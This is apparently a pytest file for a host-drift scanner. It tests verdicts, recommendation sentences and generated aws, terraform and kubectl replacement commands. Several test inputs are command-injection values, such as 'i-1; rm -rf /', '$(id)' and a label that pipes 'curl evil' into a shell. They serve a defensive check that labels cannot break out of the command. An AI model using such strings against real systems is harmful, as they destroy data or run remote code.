"""The verdict's order, the recommendation's table, its sentence, and the command that would replace the host."""

import shlex
from pathlib import Path
from typing import Any

import pytest

from driftscan.model.finding import (
    Action,
    Cure,
    CureCause,
    JudgedControl,
    JudgedMutation,
    Result,
    RuleRef,
    Severity,
    State,
    Verdict,
)
from driftscan.model.snapshot import ImageRef
from driftscan.policy.judge import action_for
from driftscan.policy.load import load
from driftscan.policy.recommend import BY_VERDICT, recommend
from driftscan.policy.replacement import command
from driftscan.policy.verdict import verdict
from tests.policy.support import KINDS, difference, mutation

UNSEEN = difference("file", "/x", "unknown")


def _mutation(
    action: str = "replace",
    severity: str = "high",
    *,
    name: str = "F-1",
    cause: str = "file-added",
    state: State = State.OPEN,
    hidden: bool = False,
) -> JudgedMutation:
    differences = (UNSEEN,) if hidden else ()
    return JudgedMutation(
        mutation=mutation(cause, *differences, name=name, subject=name),
        severity=Severity.parse(severity),
        action=Action.parse(action),
        rule=RuleRef("r"),
        state=state,
    )


def _control(result: str = "fail", action: str = "observe", name: str = "C-1", **more: Any) -> JudgedControl:
    return JudgedControl(
        id="rule",
        finding=name,
        title="The door is shut",
        severity=Severity.MEDIUM,
        action=Action.parse(action),
        result=Result(result),
        rule=RuleRef("rule"),
        **more,
    )


@pytest.mark.parametrize(
    ("facts", "expected"),
    [
        ({}, "clean"),
        ({"mutations": [_mutation()]}, "findings"),
        ({"mutations": [_mutation(severity="info")]}, "findings"),
        ({"mutations": [_mutation(state=State.WAIVED)]}, "clean"),
        ({"mutations": [_mutation(state=State.ALLOWED)]}, "clean"),
        ({"mutations": [_mutation(hidden=True)]}, "incomplete"),
        ({"unknown": [UNSEEN]}, "incomplete"),
        ({"torn": ["apt runs"]}, "incomplete"),
        ({"controls": [_control("pass"), _control("not-applicable")]}, "clean"),
        ({"controls": [_control("unknown")]}, "incomplete"),
        ({"controls": [_control("fail")]}, "findings"),
        ({"controls": [_control("fail", state=State.WAIVED)]}, "clean"),
        ({"mutations": [_mutation()], "controls": [_control("unknown")], "torn": ["x"]}, "findings"),
        ({"mutations": [_mutation()], "settling": True}, "settling"),
        ({"torn": ["x"], "settling": True}, "settling"),
        ({"reached": False, "settling": True}, "unreachable"),
        ({"gone": True, "reached": False}, "gone"),
    ],
)
def test_verdict(facts: dict[str, Any], expected: str) -> None:
    assert verdict(**facts) == expected


@pytest.mark.parametrize("word", [word for word, action in BY_VERDICT.items() if action is not None])
def test_verdicts_without_findings_have_their_action(word: Verdict) -> None:
    found = recommend([_mutation()], [], word, host="web-1", reason="no answer")
    assert (found.action, found.because, found.command) == (BY_VERDICT[word], (), "")
    assert found.sentence.startswith("web-1: ")
    assert "no answer" in found.sentence


def test_every_verdict_is_in_the_table() -> None:
    assert set(BY_VERDICT) == set(Verdict)


def test_incomplete_names_what_was_not_decided() -> None:
    found = recommend([], [_control("unknown", evidence=("user: not collected",))], Verdict.INCOMPLETE, host="h")
    assert found.sentence == (
        "h: could not be scanned wholly (not decided: rule: user: not collected); look into it by hand."
    )


def test_the_maximum_never_a_sum() -> None:
    many = [_mutation("observe", name=f"F-{index}") for index in range(500)]
    assert recommend(many, [], Verdict.FINDINGS, host="h").action is Action.OBSERVE
    assert recommend([*many, _mutation("rotate", "low", name="F-x")], [], Verdict.FINDINGS, host="h").because == (
        "F-x",
    )


@pytest.mark.parametrize("one", list(Action))
@pytest.mark.parametrize("other", list(Action))
def test_order_of_actions(one: Action, other: Action) -> None:
    judged = [_mutation(one.word, name="F-1"), _mutation(other.word, name="F-2")]
    found = recommend(judged, [], Verdict.FINDINGS, host="h")
    assert found == recommend(judged[::-1], [], Verdict.FINDINGS, host="h")
    assert found.action is max(one, other)


def test_sentence_names_host_image_facts_and_what_to_do() -> None:
    judged = [
        _mutation("replace", "high", name="F-1"),
        _mutation("replace", "critical", name="F-2"),
        _mutation("observe", "low", name="F-3"),
    ]
    found = recommend(judged, [], Verdict.FINDINGS, host="web-1", image=ImageRef("web", "2026.11.03"))
    assert found.sentence == (
        "web-1 differs from image web 2026.11.03: file-added F-2; file-added F-1; and 1 more finding: replace it now."
    )
    assert found.because == ("F-2", "F-1")
    assert found.counterfactual == "would be observe without F-2, F-1"
    assert found.cure == Cure(True, CureCause.HOST)


@pytest.mark.parametrize(
    ("actions", "otherwise", "expected"),
    [
        (["replace"], "clean", "would be none without F-0"),
        (["replace"], "incomplete", "would be investigate without F-0"),
        (["quarantine"], "unreachable", "would be investigate without F-0"),
        (["replace", "observe"], "incomplete", "would be investigate without F-0"),
        (["replace", "replace", "rotate", "observe"], "clean", "would be rotate without F-0, F-1"),
        (["observe"] * 5, "clean", "would be none without F-0, F-1, F-2 and 2 more"),
        ([], "incomplete", ""),
    ],
)
def test_the_counterfactual_is_what_would_be_advised(actions: list[str], otherwise: str, expected: str) -> None:
    judged = [_mutation(action, name=f"F-{index}") for index, action in enumerate(actions)]
    found = recommend(judged, [], Verdict.FINDINGS, host="h", otherwise=Verdict(otherwise))
    assert found.counterfactual == expected
    left = [each for each in judged if each.mutation.id not in found.because]
    rest = recommend(left, [], Verdict.FINDINGS if left else Verdict(otherwise), host="h", otherwise=Verdict(otherwise))
    assert not judged or expected.startswith(f"would be {rest.action.word} without")


def test_a_finding_does_not_make_good_for_what_was_not_seen() -> None:
    """Else whoever hides something would add a trifle."""
    judged = [_mutation("observe", "low", name="F-1"), _mutation("observe", "info", name="F-2")]
    found = recommend(judged, [], Verdict.FINDINGS, host="h", reason="no right", otherwise=Verdict.INCOMPLETE)
    assert (found.action, found.because, found.cure) == (Action.INVESTIGATE, (), Cure())
    assert found.sentence == (
        "h: file-added F-1; file-added F-2; it could not be scanned wholly (no right): look into it by hand."
    )
    assert found.counterfactual == "would be observe if the host had been scanned wholly"
    stronger = recommend([_mutation("rotate")], [], Verdict.FINDINGS, host="h", otherwise=Verdict.INCOMPLETE)
    assert (stronger.action, stronger.counterfactual) == (Action.ROTATE, "would be investigate without F-1")


def test_a_failed_control_is_told_as_one() -> None:
    found = recommend([], [_control(evidence=("door is open",))], Verdict.FINDINGS, host="h")
    assert found.sentence == 'h: fails "The door is shut" (door is open): keep an eye on it.'


def test_evidence_is_named_where_it_fits_and_nothing_is_cut_within_a_word() -> None:
    found = recommend([], [_control(evidence=("door is open " * 20,))], Verdict.FINDINGS, host="h")
    assert found.sentence == 'h: fails "The door is shut": keep an eye on it.'
    long = mutation("file-added", name="F-1", subject="word " * 40)
    judged = JudgedMutation(mutation=long, severity=Severity.LOW, action=Action.OBSERVE, rule=_mutation().rule)
    told = recommend([judged], [], Verdict.FINDINGS, host="h").sentence
    assert " word …: keep an eye on it." in told
    assert len(told) < 160


def test_hostile_names_are_shown_safely_and_shortly() -> None:
    judged = _mutation(name="F-1")
    nasty = mutation("file-added", name="F-1", subject="\x1b[2J" + "x" * 10_000)
    found = recommend(
        [JudgedMutation(mutation=nasty, severity=judged.severity, action=judged.action, rule=judged.rule)],
        [],
        Verdict.FINDINGS,
        host="h\n",
    )
    assert "\x1b" not in found.sentence
    assert "\n" not in found.sentence
    assert len(found.sentence) < 300


def test_waived_and_allowed_are_no_grounds() -> None:
    judged = [_mutation("quarantine", "critical", state=State.WAIVED), _mutation("observe", "low", name="F-2")]
    assert recommend(judged, [], Verdict.FINDINGS, host="h").because == ("F-2",)


@pytest.mark.parametrize(
    ("mutations", "controls", "expected"),
    [
        ([_mutation("replace")], [], Cure(True, CureCause.HOST)),
        ([], [_control(action="rebake", cause=CureCause.IMAGE)], Cure(False, CureCause.IMAGE)),
        ([], [_control(action="rebake")], Cure(None, CureCause.UNKNOWN)),
        ([_mutation("rebake", cause="identity-shared")], [], Cure(False, CureCause.IDENTITY)),
        ([_mutation("investigate", cause="image-unknown")], [], Cure(None, CureCause.UNKNOWN)),
        (
            [_mutation("rebake")],
            [_control(action="rebake", cause=CureCause.IMAGE)],
            Cure(False, CureCause.IMAGE),
        ),
        ([_mutation("replace")], [_control(action="observe", cause=CureCause.IMAGE)], Cure(True, CureCause.HOST)),
        ([_mutation("replace")], [_control(action="replace")], Cure(None, CureCause.UNKNOWN)),
    ],
)
def test_cure(mutations: list[JudgedMutation], controls: list[JudgedControl], expected: Cure) -> None:
    assert recommend(mutations, controls, Verdict.FINDINGS, host="h").cure == expected


WEB = {"asg": "web", "instance_id": "i-0123456789abcdef0"}
TERMINATE = "aws autoscaling terminate-instance-in-auto-scaling-group --instance-id i-0123456789abcdef0"
DETACH = "aws autoscaling detach-instances --auto-scaling-group-name web --instance-ids i-0123456789abcdef0"
STAY = " --no-should-decrement-desired-capacity"
DRAIN = "kubectl drain n-1 --ignore-daemonsets --delete-emptydir-data && kubectl delete node n-1"
MODULE = 'module.web.aws_instance.this["a\'b"]'


@pytest.mark.parametrize(
    ("labels", "replacing", "keeping"),
    [
        ({}, "", ""),
        (WEB, TERMINATE + STAY, DETACH + STAY),
        ({**WEB, "region": "eu-west-1"}, f"{TERMINATE}{STAY} --region eu-west-1", f"{DETACH}{STAY} --region eu-west-1"),
        ({**WEB, "region": "$(id)"}, TERMINATE + STAY, DETACH + STAY),
        ({**WEB, "asg": "a b"}, TERMINATE + STAY, DETACH.replace("web", "'a b'") + STAY),
        ({**WEB, "instance_id": "i-1; rm -rf /"}, "", ""),
        ({"instance_id": "i-0123abcd"}, "", ""),
        ({"terraform_address": "aws_instance.web"}, "terraform apply -replace=aws_instance.web", ""),
        ({"terraform_address": MODULE}, f"terraform apply -replace={shlex.quote(MODULE)}", ""),
        ({"terraform_address": "a\nrm"}, "", ""),
        ({"kubernetes_node": "n-1"}, f"kubectl cordon n-1 && {DRAIN}", "kubectl cordon n-1"),
        ({"kubernetes_node": "--all"}, "", ""),
        ({"kubernetes_node": "$(id)"}, "", ""),
    ],
)
def test_command(labels: dict[str, str], replacing: str, keeping: str) -> None:
    assert command(labels) == replacing
    assert command(labels, keep=True) == keeping


@pytest.mark.parametrize(
    ("action", "printed"),
    [
        ("observe", ""),
        ("investigate", ""),
        ("rotate", TERMINATE + STAY),
        ("replace", TERMINATE + STAY),
        ("rebake", ""),
        ("quarantine", DETACH + STAY),
    ],
)
def test_the_command_is_printed_where_a_replacement_is_advised(action: str, printed: str) -> None:
    assert recommend([_mutation(action)], [], Verdict.FINDINGS, host="h", labels=WEB).command == printed


def test_labels_that_come_from_a_cloud_cannot_break_out_of_the_command() -> None:
    address = "x\"; curl evil | sh #'`$(id)`"
    assert shlex.split(command({"terraform_address": address})) == ["terraform", "apply", f"-replace={address}"]


def test_the_published_tables_are_the_code() -> None:
    """docs/reference/recommendations.md, table by table."""
    page = (Path(__file__).parents[2] / "docs" / "reference" / "recommendations.md").read_text()
    rows = [
        [cell.strip().replace("`", "") for cell in line.strip("|").split("|")]
        for line in page.splitlines()
        if line[:1] == "|"
    ]
    actions = [row[0] for row in rows if row[0] in {action.word for action in Action}]
    assert actions == [action.word for action in Action]
    told = {row[0]: row[1] for row in rows if row[0] in set(Verdict)}
    assert told == {
        word.value: action.word if action is not None else "the strongest among the findings"
        for word, action in BY_VERDICT.items()
    }
    cures = {(row[0].removeprefix("written "), row[1]): row[2] for row in rows if row[0].startswith("written ")}
    assert cures == {
        (f"{written.word}, {severity.word}", cause.value): action_for(severity, written, cause).word
        for written in (Action.ROTATE, Action.REPLACE, Action.REBAKE)
        for severity in (Severity.MEDIUM, Severity.HIGH)
        for cause in (CureCause.IMAGE, CureCause.HOST, CureCause.UNKNOWN)
    }
    rules = {row[0]: tuple(row[1:4]) for row in rows if len(row) == 4 and row[2] in {each.word for each in Severity}}
    assert rules == {
        rule.id: (", ".join(sorted(rule.match.cause)) or "any", rule.severity.word, rule.action.word)
        for each in load(["immutable-core", "no-logins"], KINDS)
        for rule in each.drift
    }
